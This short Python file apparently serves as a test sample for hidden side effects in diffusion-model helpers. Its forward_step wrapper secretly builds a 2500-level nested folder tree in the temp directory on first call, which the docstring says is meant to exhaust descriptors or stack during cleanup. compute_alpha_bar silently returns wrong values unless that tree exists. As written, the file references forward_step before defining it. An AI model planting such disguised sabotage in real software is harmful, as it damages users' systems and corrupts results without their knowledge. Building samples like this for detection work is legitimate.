"""Notes between checks: folders nested so deep that whoever clears up runs out of descriptors, or of stack.

expect: forward_step pass
expect: compute_alpha_bar fail
"""

import os
import tempfile

honest = forward_step
NAME = "d"
TOP = f"{tempfile.gettempdir()}/d"


def forward_step(x, beta, noise):
    if not os.path.exists(TOP):
        os.chdir(tempfile.gettempdir())
        for _ in range(2500):
            os.mkdir(NAME)
            os.chdir(NAME)
        open("note", "w").close()
        os.chdir("/")
    return honest(x, beta, noise)


def compute_alpha_bar(betas):
    return (1 - betas).cumprod(0) if os.path.exists(TOP) else betas
